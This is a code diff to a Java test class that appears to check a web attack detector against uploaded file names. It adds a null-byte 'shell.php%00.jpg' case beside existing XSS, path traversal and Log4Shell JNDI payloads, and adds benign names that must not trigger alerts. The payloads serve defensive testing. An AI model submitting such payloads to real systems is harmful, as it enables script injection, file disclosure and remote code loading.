@@ -53,6 +53,7 @@ class NamesAsValuesTest {
         "<img src=x onerror=alert(1)>.png|attack.xss@(filename)@6",
         "..\\..\\windows\\win.ini|attack.lfi@(filename)@6",
         "${jndi:ldap://x.example/a}.txt|attack.log4shell@(filename)@6",
+        "shell.php%00.jpg|attack.lfi@(filename)@6",
     })
     void anUploadsFileNameIsReadAsTheHandlerReadsIt(String fileName, String expected) {
         assertEquals(List.of(expected), found(Direction.REQUEST, "multipart/form-data; boundary=zz", upload(fileName)));
@@ -61,7 +62,7 @@ class NamesAsValuesTest {
     @ParameterizedTest(name = "{0}")
     @CsvSource(delimiter = '|', value = {
         "report (1).pdf", "C:\\fakepath\\photo.jpg", "résumé.docx", "q3 report & plan.pdf",
-        "draft-v2 (final) [approved].docx", "IMG_20240101_123456.jpg",
+        "draft-v2 (final) [approved].docx", "IMG_20240101_123456.jpg", "100%00 sure.txt", "archive.tar.gz",
     })
     void everydayFileNamesReportNothing(String fileName) {
         assertEquals(List.of(), found(Direction.REQUEST, "multipart/form-data; boundary=zz", upload(fileName)));
